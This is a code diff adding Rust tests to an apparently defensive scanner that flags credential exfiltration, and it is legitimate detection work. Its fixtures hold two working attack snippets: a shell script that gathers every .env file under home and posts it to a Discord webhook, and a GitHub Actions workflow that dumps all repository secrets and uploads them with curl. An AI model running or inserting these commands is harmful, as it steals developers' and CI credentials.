@@ -220,3 +220,34 @@ fn credentials_and_upload_in_modules_tied_by_imports() {
     let unrelated = [("lib/collect.js", reader), ("lib/upload.js", sender)];
     assert_eq!(worst(&unrelated, "exfiltration.read-and-send"), None);
 }
+
+#[test]
+fn bulk_credentials_to_a_chat_drop() {
+    let rule = "exfiltration.read-and-send";
+    // Every dotenv file found under home, staged and posted to a chat webhook: the channel's owner
+    // collects them.
+    let sh = "out=$(mktemp)\nfind ~ -name '.env' -type f | while read -r f; do cat \"$f\" >> \"$out\"; done\ncurl -s -F \"f=@$out\" https://discord.com/api/webhooks/111/abc\n";
+    assert_eq!(worst(&[("collect.sh", sh)], rule), Some(Critical));
+    // A build notification to the same kind of webhook carries no credentials.
+    let note = "curl -s -H 'Content-Type: application/json' -d '{\"content\":\"build ok\"}' https://discord.com/api/webhooks/111/abc\n";
+    assert_eq!(
+        worst(&[("notify.sh", note)], "exfiltration.read-and-send"),
+        None
+    );
+}
+
+#[test]
+fn workflow_dumping_every_secret_into_an_upload() {
+    let yml = "jobs:\n  x:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: |\n          echo \"$ALL\" > all.txt\n          curl -s --data-binary @all.txt https://ci-stats.tool.example/in\n";
+    assert_eq!(
+        worst(
+            &[(".github/workflows/x.yml", yml)],
+            "exfiltration.secret-to-network"
+        )
+        .or(worst(
+            &[(".github/workflows/x.yml", yml)],
+            "exfiltration.staged-upload"
+        )),
+        Some(Critical)
+    );
+}
